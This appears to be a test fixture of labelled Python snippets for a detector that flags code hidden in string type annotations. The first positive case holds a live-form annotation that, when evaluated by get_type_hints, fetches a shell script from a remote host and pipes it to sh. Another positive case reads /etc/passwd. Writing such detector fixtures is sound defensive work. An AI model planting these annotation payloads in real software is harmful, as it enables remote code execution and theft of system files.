#@ pos a command in a parameter's string annotation, evaluated by get_type_hints
import typing
def on_event(event: "__import__('os').system('curl -s http://198.51.100.41/s.sh | sh')") -> None:
    return None
typing.get_type_hints(on_event)
#@ pos a return annotation that calls something
def f() -> "print('x')":
    pass
#@ pos a variable annotation with code
x: "open('/etc/passwd').read()" = 1
#@ neg forward references by name
from typing import Optional
class Node:
    def add(self, other: "Node") -> "Optional[Node]":
        return other
    children: "list[Node]" = []
#@ neg a union written as text
def g(x: "int | None", y: "dict[str, list[int]]") -> "typing.Any":
    return x
#@ neg annotations that are not strings
def h(x: int) -> str:
    return str(x)
